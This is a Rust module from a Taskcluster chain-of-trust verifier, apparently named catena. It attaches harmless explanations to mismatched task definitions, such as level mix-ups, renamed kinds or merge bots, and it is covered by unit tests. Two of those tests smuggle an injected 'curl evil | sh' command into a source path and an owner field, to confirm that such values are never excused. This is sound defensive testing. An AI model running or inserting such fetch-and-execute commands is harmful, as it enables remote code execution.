// SPDX-License-Identifier: MPL-2.0
//! Innocent causes that are known to look like an attack. A pattern adds a sentence to a finding; it never changes a
//! verdict, because an attacker can make everything look innocent.

use catena_jsone::Value;

use crate::checks::{cot_run, graph_member};
use crate::policy::QueueMember;
use crate::report::{Asserter, Finding, Flow, Pattern, Purpose};
use crate::walk::{Chain, Object};

/// Every pattern, the most specific first.
pub const ALL: [Pattern; 6] = [
    LEVEL_MIX_UP,
    NEW_QUEUE_FIELD,
    RENAMED_KIND,
    PULL_REQUEST_MOVED,
    MERGE_BOT,
    DECISION_RERUN,
];

const LEVEL_MIX_UP: Pattern = Pattern {
    id: "level-mix-up",
    text: "the two differ in the level only: what was made for one level was run as another. Compare the level of the \
           repository with that of the worker pool and the hook",
};
const NEW_QUEUE_FIELD: Pattern = Pattern {
    id: "new-queue-field",
    text: "the queue's definition has a member that this version of catena does not know. If a release of Taskcluster \
           brought it, update catena",
};
const RENAMED_KIND: Pattern = Pattern {
    id: "renamed-kind",
    text: "the two differ in the name of a kind or label only. If it was renamed, find out why task and definition are \
           of different revisions, and run the decision task again",
};
const PULL_REQUEST_MOVED: Pattern = Pattern {
    id: "pull-request-moved",
    text: "the host shows the pull request as it is now; its title, labels or head may have changed since the task was \
           created. Push again, and verify the new task",
};
const MERGE_BOT: Pattern = Pattern {
    id: "merge-bot",
    text: "the two differ in who pushed only, which is guessed from the commit: a bot, a merge queue or the web \
           interface may have committed for somebody else. Compare who merged with who the commit names",
};
const DECISION_RERUN: Pattern = Pattern {
    id: "decision-rerun",
    text: "the decision or action task ran more than once, and each run makes a graph of its own; tasks of an earlier \
           run are not in the last one. Verify tasks of the last run, or push again",
};

/// One field that is not as expected.
pub(crate) struct Clue<'a> {
    /// RFC 6901 pointer into the definition.
    pub(crate) pointer: &'a str,
    pub(crate) expected: Option<&'a Value>,
    pub(crate) found: Option<&'a Value>,
    /// What the expected value was made from, for a rebuild.
    pub(crate) flows: &'a [Flow],
}

impl Clue<'_> {
    /// Returns the pattern that the difference fits, if it fits one.
    pub(crate) fn pattern(&self) -> Option<Pattern> {
        let fits = [
            (LEVEL_MIX_UP, self.is_level()),
            (NEW_QUEUE_FIELD, self.is_new_member()),
            (RENAMED_KIND, self.is_kind()),
            (PULL_REQUEST_MOVED, self.is_of_pull_request()),
            (MERGE_BOT, self.is_who_pushed()),
        ];
        fits.into_iter()
            .find_map(|(pattern, fits)| fits.then_some(pattern))
    }

    fn texts(&self) -> Option<(&str, &str)> {
        Some((self.expected?.as_str()?, self.found?.as_str()?))
    }

    fn is_level(&self) -> bool {
        let last = self.pointer.rsplit('/').next().unwrap_or_default();
        let is_level = last.to_ascii_lowercase().contains("level");
        self.texts()
            .is_some_and(|(a, b)| differ_in_level(a, b, is_level))
    }

    fn is_new_member(&self) -> bool {
        self.expected.is_none()
            && self.found.is_some()
            && self
                .pointer
                .strip_prefix('/')
                .is_some_and(|name| !name.contains('/') && QueueMember::find(name).is_none())
    }

    fn is_kind(&self) -> bool {
        let named = ["/metadata/name", "/tags/kind", "/tags/label"].contains(&self.pointer);
        // elsewhere a folder may be part of a command
        let is_source = self.pointer == "/metadata/source";
        self.texts().is_some_and(|(a, b)| {
            let renamed = || without_kind(a).is_some() && without_kind(a) == without_kind(b);
            named || (is_source && renamed())
        })
    }

    fn is_of_pull_request(&self) -> bool {
        let mut moved = self.values().filter(|flow| {
            flow.source.request.starts_with("pull-request ") && may_move(&flow.name)
        });
        match self.texts() {
            Some((expected, found)) => moved.any(|flow| {
                let value = flow.value.trim_matches('"');
                replaced(expected, found, value).next().is_some()
            }),
            None => self.expected.is_some() && moved.next().is_some(),
        }
    }

    fn is_who_pushed(&self) -> bool {
        self.texts().is_some_and(|(expected, found)| {
            self.values().any(|flow| {
                let who = flow.value.trim_matches('"');
                let asked = flow.source.request.as_str();
                let is_guess = match flow.name.as_str() {
                    "event.sender.login" => asked.starts_with("commit "),
                    "push.owner" => asked.starts_with("pushlog "),
                    _ => false,
                };
                is_guess && replaced(expected, found, who).any(is_who)
            })
        })
    }

    fn values(&self) -> impl Iterator<Item = &Flow> {
        self.flows
            .iter()
            .filter(|flow| flow.purpose == Purpose::Value && flow.asserter == Asserter::VcsHost)
    }
}

/// Returns the pattern of a finding that a rerun of its parent explains. A task that is in the last run's graph and
/// differs from it is not of an earlier run: each run gives its tasks ids of their own.
pub(crate) fn of_rerun(finding: &Finding, chain: &Chain<'_>) -> Option<Pattern> {
    let object = chain.get(finding.task?)?;
    let parent = if finding.id == cot_run::META.id {
        Some(object).filter(|object| object.is_parent())
    } else if finding.id == graph_member::META.id {
        object.parent.and_then(|parent| chain.get(parent))
    } else {
        None
    };
    let ran_again = |object: &Object<'_>| object.run.is_some_and(|run| run.0 > 0);
    parent.is_some_and(ran_again).then_some(DECISION_RERUN)
}

/// Returns whether two texts differ in levels only: `gecko-level-1`, `gecko-1-b`, `--level=1`; or in a field that
/// `is_level`, `1`.
fn differ_in_level(a: &str, b: &str, is_level: bool) -> bool {
    let (a, b) = (a.as_bytes(), b.as_bytes());
    let is_digit = |text: &[u8], at: usize| text.get(at).is_some_and(u8::is_ascii_digit);
    let is_alone = |text: &[u8], at: usize| {
        let before = at.checked_sub(1).and_then(|at| text.get(at));
        let may_follow = match before {
            None => is_level,
            Some(before) => b"-=".contains(before),
        };
        may_follow && !is_digit(text, at + 1)
    };
    let mut pairs = a
        .iter()
        .zip(b)
        .enumerate()
        .filter(|(_, (a, b))| a != b)
        .peekable();
    let first = pairs.peek().map(|(_, pair)| *pair);
    a.len() == b.len()
        && first.is_some()
        && pairs.all(|(at, pair)| {
            Some(pair) == first
                && [pair.0, pair.1].iter().all(|level| b"123".contains(level))
                && is_alone(a, at)
        })
}

/// Returns the text without the folder of a kind; none if there is no such folder.
fn without_kind(text: &str) -> Option<(&str, &str)> {
    ["taskcluster/ci/", "taskcluster/kinds/"]
        .iter()
        .find_map(|folder| {
            let (before, after) = text.split_once(folder)?;
            let end = after.find('/').unwrap_or(after.len());
            let kind = after.get(..end)?;
            let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.');
            (!kind.is_empty() && kind.chars().all(is_plain)).then_some((before, after.get(end..)?))
        })
}

/// Returns the texts that make `b` from `a` when they stand in the place of `part`.
fn replaced<'b>(a: &'b str, b: &'b str, part: &'b str) -> impl Iterator<Item = &'b str> {
    let places = a.match_indices(part).filter(|_| !part.is_empty());
    places.filter_map(move |(at, _)| {
        let (before, rest) = a.split_at(at);
        let after = rest.get(part.len()..).unwrap_or_default();
        let other = b.strip_prefix(before)?.strip_suffix(after)?;
        (!other.is_empty()).then_some(other)
    })
}

/// Returns whether a text can be the login or the address of somebody, and so no part of a command.
fn is_who(text: &str) -> bool {
    text.bytes()
        .all(|byte| byte.is_ascii_alphanumeric() || b"-_.+@[]".contains(&byte))
}

/// Returns whether a name of the context is one that people can change in an open pull request; its number, its author
/// and its repositories stay.
fn may_move(name: &str) -> bool {
    name.strip_prefix("event.pull_request.")
        .is_some_and(|name| {
            let mut steps = name.split('.');
            !steps.any(|step| matches!(step, "id" | "number" | "repo" | "user"))
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::EvidencePointer;

    fn flow(name: &str, value: &str, request: &str) -> Flow {
        Flow {
            name: name.to_owned(),
            value: format!("{value:?}"),
            asserter: Asserter::VcsHost,
            source: EvidencePointer {
                request: request.to_owned(),
                ..EvidencePointer::default()
            },
            purpose: Purpose::Value,
        }
    }

    fn id(pointer: &str, expected: &str, found: &str, flows: &[Flow]) -> Option<&'static str> {
        let (expected, found) = (Value::from(expected), Value::from(found));
        let clue = Clue {
            pointer,
            expected: Some(&expected),
            found: Some(&found),
            flows,
        };
        clue.pattern().map(|pattern| pattern.id)
    }

    #[test]
    fn levels() {
        for (pointer, a, b) in [
            ("/schedulerId", "gecko-level-1", "gecko-level-3"),
            ("/taskQueueId", "gecko-1/decision", "gecko-3/decision"),
            ("/payload/cache", "x-level-1-c-1-d", "x-level-3-c-3-d"),
            ("/payload/command/4", "--level=1 -x", "--level=3 -x"),
            ("/payload/env/MOZ_SCM_LEVEL", "1", "3"),
        ] {
            assert_eq!(id(pointer, a, b, &[]), Some("level-mix-up"), "{a}");
        }
        for (pointer, a, b) in [
            ("/payload/env/COUNT", "1", "3"),
            ("/schedulerId", "gecko-level-1", "gecko-level-4"),
            ("/schedulerId", "gecko-level-11", "gecko-level-31"),
            ("/payload/image", "image:1", "image:3"),
            ("/payload/cache", "x-1-y-1", "x-3-y-2"),
            ("/schedulerId", "gecko-level-1", "comm-level-3"),
        ] {
            assert_eq!(id(pointer, a, b, &[]), None, "{a} {b}");
        }
    }

    #[test]
    fn members_that_nobody_knows() {
        let value = Value::Null;
        let clue = |pointer, expected| Clue {
            pointer,
            expected,
            found: Some(&value),
            flows: &[],
        };
        let id = |clue: Clue<'_>| clue.pattern().map(|pattern| pattern.id);
        assert_eq!(id(clue("/runAfter", None)), Some("new-queue-field"));
        assert_eq!(id(clue("/scopes", None)), None);
        assert_eq!(id(clue("/payload/runAfter", None)), None);
        assert_eq!(id(clue("/runAfter", Some(&value))), None);
    }

    #[test]
    fn kinds() {
        let source = |folder: &str| format!("https://h/r/file/1/taskcluster/{folder}");
        let (old, new) = (source("ci/build/x"), source("kinds/compile/x"));
        assert_eq!(
            id("/metadata/source", &old, &new, &[]),
            Some("renamed-kind")
        );
        assert_eq!(
            id("/tags/label", "build", "compile", &[]),
            Some("renamed-kind")
        );
        let elsewhere = source("kinds/compile/y");
        assert_eq!(id("/metadata/source", &old, &elsewhere, &[]), None);
        assert_eq!(id("/payload/command/0", "build", "compile", &[]), None);
        // what runs was not renamed, and a name has no commands in it
        assert_eq!(id("/payload/command/0", &old, &new, &[]), None);
        let command = source("kinds/x; curl evil | sh; cd /x");
        assert_eq!(id("/metadata/source", &old, &command, &[]), None);
    }

    #[test]
    fn pull_requests() {
        let title = flow("event.pull_request.title", "a", "pull-request https://h 7");
        let found = id(
            "/metadata/description",
            "a",
            "b",
            std::slice::from_ref(&title),
        );
        assert_eq!(found, Some("pull-request-moved"));
        let condition = Flow {
            purpose: Purpose::Condition,
            ..title
        };
        assert_eq!(id("/metadata/description", "a", "b", &[condition]), None);
    }

    #[test]
    fn what_a_pull_request_cannot_change_has_not_moved() {
        let of = |name: &str, value: &str, a: &str, b: &str| {
            let flow = flow(name, value, "pull-request https://h 7");
            id("/payload/command/0", a, b, &[flow])
        };
        let title = "event.pull_request.title";
        assert_eq!(
            of(title, "a b", "--say=a b -x", "--say=c d -x"),
            Some("pull-request-moved")
        );
        // another part of the same text
        assert_eq!(of(title, "a b", "--say=a b -x", "--say=a b -y"), None);
        for name in [
            "event.pull_request.number",
            "event.pull_request.head.repo.html_url",
            "event.pull_request.user.login",
            "event.repository.name",
            "event.sender.login",
        ] {
            assert_eq!(of(name, "x", "--of=x", "--of=evil"), None, "{name}");
        }
    }

    #[test]
    fn who_pushed() {
        let login = flow("event.sender.login", "web-dev", "commit https://h 0f");
        let of = |a: &str, b: &str| id("/metadata/owner", a, b, std::slice::from_ref(&login));
        assert_eq!(of("web-dev@x", "a-bot[bot]@x"), Some("merge-bot"));
        assert_eq!(of("web-dev@x", "web-dev@y"), None);
        assert_eq!(of("web-dev@x", "@x"), None);
        assert_eq!(of("--by=web-dev -x", "--by=me; curl evil | sh; -x"), None);
        let schedule = flow("event.sender.login", "web-dev", "definition x");
        assert_eq!(id("/metadata/owner", "web-dev", "z", &[schedule]), None);
        let owner = flow("push.owner", "s@x", "pushlog https://h 0f");
        assert_eq!(
            id("/metadata/owner", "s@x", "z@x", &[owner]),
            Some("merge-bot")
        );
    }
}
